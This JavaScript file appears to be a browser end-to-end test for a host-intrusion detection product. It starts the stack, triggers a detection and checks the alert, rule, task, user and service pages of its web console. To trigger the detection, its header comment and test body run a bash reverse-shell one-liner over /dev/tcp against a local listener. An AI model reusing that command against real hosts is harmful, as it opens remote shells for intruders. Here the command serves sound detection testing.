// Browser test (b), the scenario: `vigilctl up --data <tmp>` (as root: the agent runs
// the eBPF driver), log in to the console it prints, see this machine among the hosts, trigger
// a real detection (`bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1` against a listener of the test),
// see the alert appear in the open alerts list without a reload (server-sent events), resolve
// it; then the operator's pages on the same stack (a task answered by a plugin, a plugin
// restart, a rule pack uploaded, alerting, disabled and enabled, a user, the services);
// `vigilctl down`. Screenshots: <build>/console/screenshots/live-*.png.
import fs from "node:fs";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { BUILD_DIR, apiCall, apiLogin, check, launchChromium, log, loginUi, main, onExit, run, shot, skip, tempDir, viaMenu, waitFor, watchdog } from "./lib.mjs";

const RULE = "reverse_shell_socket_stdio";  // hub/rules (as tests/e2e/stack_e2e_test.cpp)

main(async () => {
  watchdog(420);
  const vigilctl = path.join(BUILD_DIR, "bin", "vigilctl");
  if (process.getuid?.() !== 0) return skip("needs root (the agent's eBPF driver sees the reverse shell)");
  if (!fs.existsSync(vigilctl)) return skip(`${vigilctl} is not built`);
  const help = await run(vigilctl, ["up", "--help"], { timeoutMs: 10000 });
  if (help.code !== 0) return skip("this vigilctl has no `up` command");
  for (const b of ["vigil-discovery", "vigil-center", "vigil-hub", "vigil-manager", "vigil-agent"]) {
    check(fs.existsSync(path.join(BUILD_DIR, "bin", b)), `${b} is not built`);
  }
  check(fs.existsSync(path.join(BUILD_DIR, "console/dist/index.html")), "the console is not built (target console)");
  const browser = await launchChromium();

  const data = tempDir("vigil-console-live-");
  fs.chmodSync(data, 0o700);
  const portsBase = 30000 + (process.pid % 500) * 12;
  log(`vigilctl up --data ${data} --ports ${portsBase}`);
  onExit(async () => {
    const down = await run(vigilctl, ["down", "--data", data], { timeoutMs: 90000 });
    log(`vigilctl down: exit ${down.code}`);
  });
  const up = await run(vigilctl, ["up", "--data", data, "--ports", String(portsBase)], { timeoutMs: 150000 });
  if (up.code !== 0) {
    for (const f of fs.existsSync(path.join(data, "log")) ? fs.readdirSync(path.join(data, "log")) : []) {
      console.error(`--- ${f}\n${fs.readFileSync(path.join(data, "log", f), "utf8").slice(-2000)}`);
    }
  }
  check(up.code === 0, `vigilctl up failed (${up.code}): ${up.stdout}\n${up.stderr}`);
  const base = /console\s+(http:\/\/[^\s]+?)\/?\s*$/m.exec(up.stdout)?.[1];
  check(base, `vigilctl up printed no console URL:\n${up.stdout}`);
  const password = /password (\S+)/.exec(up.stdout)?.[1] ?? fs.readFileSync(path.join(data, "admin-password"), "utf8").trim();
  log(`console at ${base}`);
  const token = await apiLogin(base, "admin", password);

  // This machine reports in (its first heartbeat).
  const hostname = os.hostname();
  const host = await waitFor(
    "this machine among the hosts",
    async () => (await apiCall(base, "GET", "/api/v1/hosts?state=online", token)).items.find((h) => h.hostname === hostname),
    { timeoutMs: 90000, intervalMs: 1000 },
  );
  log(`host ${host.hostname} (${host.agent_id}) is online`);

  const context = await browser.newContext({ viewport: { width: 1280, height: 800 } });
  const page = await context.newPage();
  page.setDefaultTimeout(15000);
  await loginUi(page, base, "admin", password);
  await viaMenu(page, "Hosts");
  await page.waitForSelector(`tr[data-host="${host.agent_id}"]`);
  check((await page.textContent(`tr[data-host="${host.agent_id}"] .state`)) === "online", "the host shows online");
  await shot(page, "live-hosts");

  // The alerts list stays open while the detection happens.
  await viaMenu(page, "Alerts");
  await page.waitForSelector("table.alerts tbody tr");
  await waitFor("the live event stream", async () => (await page.textContent("[data-testid=live]")) === "live", { timeoutMs: 20000 });
  await page.evaluate(() => ((window).__noReload = true));

  // A local listener takes the reverse shell, tells it to exit and closes.
  const sockets = new Set();
  const listener = net.createServer((sock) => {
    sockets.add(sock);
    sock.on("error", () => {});
    setTimeout(() => sock.end("exit\n"), 500);
    setTimeout(() => sock.destroy(), 3000);
  });
  await new Promise((r) => listener.listen(0, "127.0.0.1", r));
  onExit(() => {
    for (const s of sockets) s.destroy();
    return new Promise((r) => listener.close(() => r()));
  });
  const port = listener.address().port;
  // The reverse shell's alert (other activity of the machine may raise alerts too): found in
  // the API by its rule, and it must be among the rows that arrived live. The driver may still
  // be loading its eBPF programs right after `up`: a shell every 10 s, for up to 2 minutes.
  const liveRow = async () => {
    const found = (await apiCall(base, "GET", `/api/v1/alerts?agent_id=${encodeURIComponent(host.agent_id)}&rule_id=${RULE}&limit=50`, token)).items;
    for (const a of found) {
      const fresh = page.locator(`table.alerts tbody tr.fresh[data-alert="${a.alert_id}"]`);
      if ((await fresh.count()) > 0) return fresh.first();
    }
    return null;
  };
  let row = null;
  for (let attempt = 1; attempt <= 12 && !row; attempt++) {
    log(`reverse shell ${attempt} to 127.0.0.1:${port}`);
    const shell = await run("timeout", ["-s", "KILL", "15", "/bin/bash", "-c", `bash -i >& /dev/tcp/127.0.0.1/${port} 0>&1`], { timeoutMs: 20000 });
    log(`the shell ended (${shell.code})`);
    row = await waitFor("the reverse shell's alert in the open list (live)", liveRow, { timeoutMs: 10000, intervalMs: 500 }).catch(() => null);
  }
  check(row, "no reverse shell alert arrived in the open alerts list within 2 minutes");
  check(await page.evaluate(() => (window).__noReload === true), "the page was not reloaded");
  const alertId = await row.getAttribute("data-alert");
  log(`alert ${alertId} appeared live`);
  await shot(page, "live-alerts");

  await row.locator("a").first().click();
  await page.waitForSelector("[data-testid=process-tree]");
  const raw = await page.textContent("pre.raw");
  check(raw.includes(RULE) && /bash/.test(raw), "the detail is the reverse shell's alert");
  await shot(page, "live-alert");
  await page.selectOption("form.workflow select[name=status]", "resolved");
  await page.fill("form.workflow input[name=comment]", "reverse shell from the console test");
  await page.click("form.workflow button[type=submit]");
  await page.waitForSelector("[data-testid=alert-status] .st-resolved");
  const after = await apiCall(base, "GET", `/api/v1/alerts/${encodeURIComponent(alertId)}`, token);
  check(after.status === "resolved", `the alert is ${after.status}`);

  await tasksRulesUsersServices(page, { base, token, data, host });
  await context.close();

  const down = await run(vigilctl, ["down", "--data", data], { timeoutMs: 90000 });
  check(down.code === 0, `vigilctl down failed: ${down.stderr}`);
});

// The operator's pages on the real stack: a task to the example plugin answered by the host,
// a plugin restart from the host page, a rule pack uploaded and its rule alerting on this
// machine, then disabled so that it no longer does, a user created and given another role,
// and the services of the cluster with their health.
async function tasksRulesUsersServices(page, { base, token, data, host }) {
  // Tasks: the example plugin (sdk/examples) answers task 9101 with its data.
  await viaMenu(page, "Tasks");
  await page.waitForSelector(`.hosts-pick input[value="${host.agent_id}"]`);
  await page.fill("input[name=data_type]", "9101");
  await page.fill("input[name=name]", "example");
  await page.fill("textarea[name=data]", "ping from the console");
  await page.check(`.hosts-pick input[value="${host.agent_id}"]`);
  await page.click("form.task-form button[type=submit]");
  await page.waitForURL(/\/tasks\/[^/]+$/);
  const taskId = decodeURIComponent(page.url().replace(/^.*\/tasks\//, ""));
  await page.waitForSelector(".badge.task-succeeded", { timeout: 30000 });
  check((await page.textContent("main")).includes("ping from the console"), "the task page shows the plugin's answer");
  const task = await apiCall(base, "GET", `/api/v1/tasks/${encodeURIComponent(taskId)}`, token);
  check(task.results?.[0]?.status === "succeeded" && task.results[0].agent_id === host.agent_id, `task ${taskId}: ${JSON.stringify(task.results)}`);
  log(`task ${taskId} answered by the example plugin`);
  await shot(page, "live-task");

  // A plugin restart from the host page (agent task 1061).
  await page.goto(`${base}/hosts/${encodeURIComponent(host.agent_id)}`);
  await page.waitForSelector("button[data-restart=example]");
  page.once("dialog", (d) => d.accept());
  await page.click("button[data-restart=example]");
  await page.waitForSelector("p.notice.info a.mono");
  const restartId = await page.textContent("p.notice.info a.mono");
  await waitFor(
    "the host's result of the plugin restart",
    async () => (await apiCall(base, "GET", `/api/v1/tasks/${encodeURIComponent(restartId)}`, token)).results?.[0]?.status === "succeeded",
    { timeoutMs: 30000, intervalMs: 500 },
  );
  log(`plugin restart ${restartId} succeeded`);
  await shot(page, "live-host-restart");

  // Rules: upload a pack whose rule matches a program of this test, see it alert.
  const marker = path.join(data, "vigil-console-marker");
  fs.copyFileSync("/bin/true", marker);
  fs.chmodSync(marker, 0o755);
  const pack = path.join(data, "console_marker.yaml");
  fs.writeFileSync(
    pack,
    ["rules:", "  - id: console_test_marker", "    name: The console test's marker program ran", "    data_type: 59", "    severity: low", "    checks:", "      marker: {field: exe, ends_with: /vigil-console-marker}", ""].join("\n"),
  );
  await viaMenu(page, "Rules");
  await page.waitForSelector("table tbody tr");
  await page.setInputFiles("input[type=file]", pack);
  await page.click("form.inline button[type=submit]");
  await page.waitForSelector("p.notice.info:has-text('console_marker uploaded')");
  const listed = (await apiCall(base, "GET", "/api/v1/rules?source=managed&limit=1000", token)).items.find((r) => r.id === "console_test_marker");
  check(listed && listed.enabled !== false, "the uploaded rule is listed as managed and enabled");
  const markerAlerts = async (sinceMs) =>
    (await apiCall(base, "GET", `/api/v1/alerts?agent_id=${encodeURIComponent(host.agent_id)}&rule_id=console_test_marker&limit=100`, token)).items.filter((a) => a.time_ms >= sinceMs);
  // Runs the marker every second until the rule's alert for a run after `sinceMs` is stored.
  const markerAlerted = (what, sinceMs) =>
    waitFor(
      what,
      async () => {
        await run(marker, [], { timeoutMs: 5000 });
        return (await markerAlerts(sinceMs)).length > 0;
      },
      { timeoutMs: 60000, intervalMs: 1000 },
    );
  await markerAlerted("an alert of the uploaded rule", Date.now() - 1000);
  log("the uploaded rule alerted");

  // Disabled from the list: the hub reloads and the rule no longer alerts.
  await page.fill("input[type=search]", "console_test_marker");
  const enabled = page.locator("input[aria-label='enable console_test_marker']");
  await enabled.waitFor();
  check(await enabled.isChecked(), "the rule shows enabled");
  const patched = page.waitForResponse((r) => r.url().includes("/api/v1/rules/console_test_marker") && r.request().method() === "PATCH");
  await enabled.uncheck();
  check((await patched).ok(), "PATCH of the rule");
  await shot(page, "live-rules");
  const off = (await apiCall(base, "GET", "/api/v1/rules?source=managed&limit=1000", token)).items.find((r) => r.id === "console_test_marker");
  check(off?.enabled === false, "the rule is disabled through the API view");
  const offSince = Date.now();
  for (let i = 0; i < 3; i++) await run(marker, [], { timeoutMs: 5000 });
  await new Promise((r) => setTimeout(r, 8000));
  // Enabled again: it alerts again, so events flowed all along and the silence was the rule's.
  const onSince = Date.now();
  await enabled.check();
  await markerAlerted("an alert of the enabled rule again", onSince);
  const whileOff = (await markerAlerts(offSince)).filter((a) => a.time_ms < onSince);
  check(whileOff.length === 0, `the disabled rule alerted ${whileOff.length} times`);
  log("the rule was silent while disabled and alerts once enabled");

  // Users: create an analyst (read-only), make them an operator, log in as them.
  await viaMenu(page, "Users");
  await page.waitForSelector("input[name=new-username]");
  await page.fill("input[name=new-username]", "analyst");
  await page.fill("input[name=new-password]", "analyst-password-1");
  await page.selectOption("select[name=new-role]", "read_only");
  await page.click("form.card button[type=submit]");
  const roleOf = page.locator("select[aria-label='role of analyst']");
  await roleOf.waitFor();
  check((await roleOf.inputValue()) === "read_only", "the new user is read-only");
  await roleOf.selectOption("operator");
  await waitFor("the role change", async () => (await apiCall(base, "GET", "/api/v1/users", token)).items.find((u) => u.username === "analyst")?.role === "operator");
  await apiLogin(base, "analyst", "analyst-password-1");
  await shot(page, "live-users");

  // Services: discovery, the center and the hub of this stack, healthy.
  await viaMenu(page, "Services");
  await page.waitForSelector("section.card h2:has-text('Centers (1)')");
  await page.waitForSelector("section.card h2:has-text('Hubs (1)')");
  const text = await page.textContent("main");
  check(/Discovery \(\d+\)/.test(text) && /Managers \(\d+\)/.test(text), `services page: ${text.slice(0, 300)}`);
  check((await page.locator("main .badge.offline").count()) === 0, "no service is down");
  check(/\d+ ms/.test(text) && !/\d+d ago/.test(text), "the hub's lag shows as a duration");
  const titles = await page.locator("section.card h2").allTextContents();
  check(titles[0].startsWith("Discovery") && titles[1].startsWith("Centers"), `sections in order: ${titles}`);
  await shot(page, "live-services");
}
